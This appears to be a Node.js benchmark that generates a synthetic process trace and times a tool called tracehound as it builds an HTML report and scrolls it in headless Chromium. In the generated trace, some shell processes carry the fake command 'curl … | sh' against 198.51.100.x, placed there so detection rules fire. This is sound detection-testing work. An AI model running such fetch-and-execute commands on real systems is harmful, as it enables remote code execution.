// Measures `tracehound report` on a made-up trace of 100,000 processes and 10,000 signals: size, time to write, first
// paint and frames while scrolling in headless Chromium. Usage: (cd tests/html && npm ci) && node benches/html.js
// [PROCESSES [SIGNALS [TRACE]]]; TRACEHOUND names the program (a release build). With TRACE it only writes the trace.

import { execFileSync } from "node:child_process";
import { createWriteStream, rmSync, statSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { once } from "node:events";
import { folder, launch, program, root } from "../tests/html/browser.js";
import { pathToFileURL } from "node:url";

const n_processes = Number(process.argv[2] ?? 100000);
const n_signals = Number(process.argv[3] ?? 10000);
const ROUNDS = Number(process.env.ROUNDS ?? 5);

/** A host with containers, where services start shells that start programs; every so many a shell is started by a
 * service runtime, and fires. Each process is born, executes, opens files, and exits. */
async function generate(file) {
  const out = createWriteStream(file);
  const write = async (text) => out.write(text) || (await once(out, "drain"));
  const cgroup = (k) => (k % 4 ? `/system.slice/service-${k}.service` : `/system.slice/docker-${String(k).padStart(2, "0").repeat(32)}.scope`);
  await write("#tracehound-trace 1\nmachine hostname=bench.example.com kernel=6.1.0 boot_id=bench boot_ns=1772438402000000000\n");
  for (let u = 0; u < 20; u++) await write(`user ${1000 + u} user${u} home=/home/user${u} shell=/bin/sh\n`);
  await write("thread 1 comm=systemd exe=/sbin/init exepath=/usr/lib/systemd/systemd cwd=/ uid=0 gid=0 start_ns=1772438402000000000\n");
  const services = 40;
  for (let k = 0; k < services; k++) {
    await write(`thread ${10 + k} ptid=1 comm=${k % 2 ? "java" : "worker"} exe=/opt/service${k}/bin/run args=["--config","/etc/service${k}.conf"] exepath=/opt/service${k}/bin/run cwd=/ uid=${1000 + (k % 20)} gid=100 start_ns=${1772438403000000000n + BigInt(k) * 1000000n} cgroups=["cpu=${cgroup(k)}"]\n`);
  }
  await write("at 2026-03-02T10:00:00Z\n");
  const every = Math.max(1, Math.floor(n_processes / n_signals));
  const names = ["grep", "awk", "sed", "ls", "cat", "python3", "make", "gcc", "ld", "git"];
  // The last few processes of the line that is open: children of children, now and then from a service again.
  let line = [];
  for (let i = 0; i < n_processes - services - 1; i++) {
    const pid = 1000 + i;
    const fires = i % every === 0;
    const service = 10 + ((i * 7) % services);
    const parent = fires ? 10 + (((i * 2) % services) | 1) : line.length && i % 5 ? line.at(-1 - (i % line.length)) : service;
    const uid = 1000 + ((parent * 3) % 20);
    const comm = fires ? "sh" : names[i % names.length];
    const exe = `/usr/bin/${comm}`;
    const args = fires ? `["-c","curl -s http://198.51.100.${i % 250}:8000/${i} | sh"]` : `["--input=/srv/data/${i % 5000}/part-${i}.json","-v"]`;
    const of = `tid=${pid} pid=${pid} ptid=${parent} cwd=/srv/data/ uid=${uid} gid=100`;
    await write(
      `+200us ${pid} clone res=0 exe=run args=[] comm=run flags=0 vtid=${pid} vpid=${pid} cgroups=["cpu=${cgroup(service - 10)}"] ${of}\n` +
        `+50us ${pid} execve res=0 exe=${exe} args=${args} comm=${comm} trusted_exepath=${exe} filename=${exe} env=["PATH=/usr/bin","HOME=/srv","LANG=C.UTF-8"] cgroups=["cpu=${cgroup(service - 10)}"] ${of}\n` +
        `+20us ${pid} openat fd=3 dirfd=AT_FDCWD name=/etc/ld.so.cache flags=O_RDONLY\n` +
        `+20us ${pid} openat fd=4 dirfd=AT_FDCWD name=/srv/data/out/${i}.tmp flags=O_WRONLY|O_CREAT\n`,
    );
    // What exits here is nobody's parent.
    const exits = i % 3 === 0;
    if (exits) await write(`+1ms ${pid} procexit status=0 ret=0 sig=0 core=0 reaper_tid=0\n`);
    else line = line.length > 6 ? [pid] : [...line, pid];
  }
  out.end();
  await once(out, "finish");
}

const median = (values) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)];
const trace = path.join(folder, "bench.trace");
const page_file = path.join(folder, "bench.html");
if (process.argv[4]) {
  await generate(process.argv[4]);
  process.exit(0);
}
await generate(trace);

const seconds = [];
for (let round = 0; round < ROUNDS; round++) {
  const start = performance.now();
  execFileSync(program, ["report", trace, "-r", "rules", "-o", page_file, "--force", "-q"], { cwd: root, stdio: "inherit" });
  seconds.push((performance.now() - start) / 1000);
}
const analyzed = [];
for (let round = 0; round < ROUNDS; round++) {
  const start = performance.now();
  execFileSync(program, ["analyze", trace, "-r", "rules", "-q", "-f", "jsonl"], { cwd: root, stdio: "ignore" });
  analyzed.push((performance.now() - start) / 1000);
}

const browser = await launch();
if (!browser) throw new Error("no Chromium here");
/** What the page's main thread did, in seconds of CPU. */
const cpu = async (page) => {
  const session = await page.context().newCDPSession(page);
  await session.send("Performance.enable", { timeDomain: "threadTicks" });
  return async () => (await session.send("Performance.getMetrics")).metrics.find(({ name }) => name === "TaskDuration").value;
};
const paints = { first: [], ready: [], drawn: [], cpu: [] };
let counts;
for (let round = 0; round < ROUNDS; round++) {
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  const page = await context.newPage();
  const used = await cpu(page);
  await page.goto(pathToFileURL(page_file).href);
  await page.waitForSelector("#tree .row");
  const times = await page.evaluate(
    () =>
      new Promise((done) =>
        requestAnimationFrame(() =>
          setTimeout(() => {
            const paint = performance.getEntriesByName("first-contentful-paint")[0]?.startTime;
            done({ first: paint, ready: performance.getEntriesByName("ready")[0].startTime, drawn: performance.now() });
          }),
        ),
      ),
  );
  times.cpu = (await used()) * 1000;
  for (const key of Object.keys(paints)) paints[key].push(times[key]);
  counts = await page.evaluate(() => [document.querySelector("#processes .status").textContent, document.querySelector("#signals .status").textContent]);
  await context.close();
}

// Scrolling: a step a frame through the open tree; a frame that takes more than 50 ms is a stutter.
const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
const page = await context.newPage();
await page.goto(pathToFileURL(page_file).href);
await page.waitForSelector("#tree .row");
const act = async (f, argument) => page.evaluate(f, argument);
const opened = await act(() => {
  const start = performance.now();
  [...document.querySelectorAll("#processes button")].find((b) => b.textContent === "Open all").click();
  return performance.now() - start;
});
const frames = {};
const frame_cpu = {};
const used = await cpu(page);
for (const id of ["tree", "signal-rows"]) {
  const before = await used();
  frames[id] = await act(async (id) => {
    const scroller = document.getElementById(id);
    scroller.scrollIntoView();
    scroller.scrollTop = 0;
    const times = [];
    let last = await new Promise(requestAnimationFrame);
    for (let i = 0; i < 300; i++) {
      // Slowly, a page a frame, and in leaps.
      scroller.scrollTop += i < 100 ? 40 : i < 200 ? scroller.clientHeight : (scroller.scrollHeight / 100) * (i % 2 ? 7 : -3);
      const now = await new Promise(requestAnimationFrame);
      times.push(now - last);
      last = now;
    }
    return times;
  }, id);
  frame_cpu[id] = ((await used()) - before) * 1000;
}
const filtered = await act(async () => {
  const search = document.getElementById("tree-search");
  const start = performance.now();
  search.value = "part-77";
  search.dispatchEvent(new Event("input"));
  await new Promise(requestAnimationFrame);
  await new Promise((done) => setTimeout(done));
  return performance.now() - start;
});
await browser.close();

const spread = (values, digits = 0) => `${median(values).toFixed(digits)} (${Math.min(...values).toFixed(digits)} to ${Math.max(...values).toFixed(digits)})`;
const told = (times) => {
  const sorted = [...times].sort((a, b) => a - b);
  return `median ${median(times).toFixed(1)} ms, 99 % ${sorted[Math.floor(times.length * 0.99)].toFixed(1)} ms, longest ${sorted.at(-1).toFixed(1)} ms, above 50 ms: ${times.filter((t) => t > 50).length} of ${times.length}`;
};
console.log(`${n_processes} processes, ${n_signals} signals asked for; ${os.cpus().length} cores, load ${os.loadavg().map((l) => l.toFixed(1)).join(" ")}; medians of ${ROUNDS}, with least and most`);
console.log(`page says           ${counts.join(" ")}`);
console.log(`trace               ${(statSync(trace).size / 1e6).toFixed(1)} MB of text notation`);
console.log(`page                ${(statSync(page_file).size / 1e6).toFixed(1)} MB`);
console.log(`report              ${spread(seconds, 2)} s; analyze alone ${spread(analyzed, 2)} s`);
console.log(`first paint         ${spread(paints.first)} ms`);
console.log(`drawn by the script ${spread(paints.ready)} ms; frame after it ${spread(paints.drawn)} ms; CPU of the main thread ${spread(paints.cpu)} ms`);
console.log(`open all            ${opened.toFixed(0)} ms; filter by text ${filtered.toFixed(0)} ms`);
console.log(`scrolling the tree  ${told(frames.tree)}; CPU a frame ${(frame_cpu.tree / frames.tree.length).toFixed(1)} ms`);
console.log(`scrolling signals   ${told(frames["signal-rows"])}; CPU a frame ${(frame_cpu["signal-rows"] / frames["signal-rows"].length).toFixed(1)} ms`);
rmSync(folder, { recursive: true });
